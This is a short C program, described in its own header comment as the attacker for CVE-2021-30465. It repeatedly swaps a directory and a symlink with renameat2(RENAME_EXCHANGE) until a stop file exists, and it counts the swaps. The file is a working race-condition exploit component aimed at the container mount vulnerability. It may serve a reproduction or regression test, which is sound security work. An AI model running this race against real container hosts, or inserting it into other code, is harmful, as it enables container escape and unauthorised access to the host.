/* CVE-2021-30465 attacker: exchange A and B (a directory and a symlink)
 * with renameat2(RENAME_EXCHANGE) as fast as possible until STOPFILE
 * exists.  Prints the number of swaps.
 *
 *   swap_race A B STOPFILE */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>
#include <sys/syscall.h>
#include <linux/fs.h>

int main(int argc, char **argv)
{
	if (argc != 4) {
		fprintf(stderr, "usage: %s A B STOPFILE\n", argv[0]);
		return 64;
	}
	long n = 0;
	for (;;) {
		for (int i = 0; i < 1000; i++)
			if (syscall(SYS_renameat2, AT_FDCWD, argv[1], AT_FDCWD, argv[2],
				    RENAME_EXCHANGE) == 0)
				n++;
		if (access(argv[3], F_OK) == 0)
			break;
	}
	printf("swaps=%ld\n", n);
	return 0;
}
